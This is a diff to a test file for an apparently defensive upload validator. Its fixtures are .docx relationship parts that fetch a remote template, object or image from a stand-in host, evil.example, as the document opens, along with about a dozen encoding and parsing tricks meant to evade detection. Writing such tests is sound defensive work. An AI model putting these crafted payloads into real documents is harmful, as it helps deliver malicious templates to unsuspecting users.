@@ -50,7 +50,7 @@ describe('a file is what its bytes are, whatever it is called', () => {
 describe('what a document carries', () => {
   it('is taken when it is words, and refused when it can act, hides something or is locked', async () => {
     const external = (what: string) =>
-      `<Relationships><Relationship Type="http://x/${what}" Target="http://evil.example/a" TargetMode="External"/></Relationships>`;
+      `<Relationships><Relationship Type="http://x/relationships/${what}" Target="http://evil.example/a" TargetMode="External"/></Relationships>`;
     const cases: [string, Buffer, string][] = [
       ['a.docx', await docx(), 'taken as docx'],
       ['a.docx', await docx({ 'word/_rels/document.xml.rels': external('hyperlink') }), 'taken as docx'],
@@ -76,5 +76,46 @@ describe('what a document carries', () => {
       ['a.pdf', Buffer.concat([pdf(), await zip({ 'a.jar': 'x' })]), 'two-in-one'],
     ];
     for (const [name, file, expected] of cases) expect([name, await outcome(name, file)]).toEqual([name, expected]);
+  });
+});
+
+describe('what a document fetches as it is opened', () => {
+  const fetching = (what: string, target = 'https://evil.example/t.dotm') =>
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${what}" Target="${target}" TargetMode="External"/></Relationships>`;
+  const template = fetching('attachedTemplate');
+  const bare = template.replace(/^<\?.*\?>\r\n/, '');
+  const wide = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');
+  const inWord = async (rels: string | Buffer, part = 'word/_rels/settings.xml.rels') =>
+    outcome('a.docx', await docx({ [part]: rels }));
+
+  it.each<[string, string | Buffer]>([
+    ['as it is mostly written', template],
+    ['in single quotes', bare.replaceAll('"', "'")],
+    ['with spaces about the equals sign', template.replace('TargetMode=', 'TargetMode = ')],
+    ['with a prefix', bare.replaceAll(/(<\/?)(R)/g, '$1r:$2').replace('xmlns=', 'xmlns:r=')],
+    ['in UTF-16', wide(bare)],
+    ['in another encoding', template.replace('UTF-8', 'UTF-7')],
+    ['with a character by number', template.replace('External', '&#69;xternal')],
+    ['with an entity of its own', `<!DOCTYPE a [<!ENTITY e "External">]>${bare.replace('External', '&e;')}`],
+    ['behind a sign that closes nothing', bare.replace('Id="r1"', 'Id="r1>"')],
+    ['an object', fetching('oleObject')],
+    ['a picture', fetching('image')],
+    ['behind a comment', bare.replace('<Relationship ', '<!-- > --><Relationship ')],
+  ])('is refused: %s', async (_, rels) => {
+    expect(await inWord(rels)).toBe('active-content');
+  });
+
+  it('is refused by whatever letters the part is called, and behind more than anybody reads', async () => {
+    expect(await inWord(template, 'word/_rels/settings.xml.RELS')).toBe('active-content');
+    const padded = bare.replace('<Relationship ', `${' '.repeat(1_100_000)}<Relationship `);
+    expect(await inWord(padded)).toBe('unpacks-too-large');
+  });
+
+  it('is not what a link is, nor a part of the document itself', async () => {
+    expect(await inWord(fetching('hyperlink', 'https://a.example/?b=1&amp;c=2'))).toBe('taken as docx');
+    const inside = fetching('styles', 'styles.xml').replace(' TargetMode="External"', '');
+    expect(await inWord(inside)).toBe('taken as docx');
+    expect(await inWord(inside.replace('<?xml', '\uFEFF<?xml'))).toBe('taken as docx');
+    expect(await inWord('<Relationships xmlns="http://a.example"/>')).toBe('taken as docx');
   });
 });
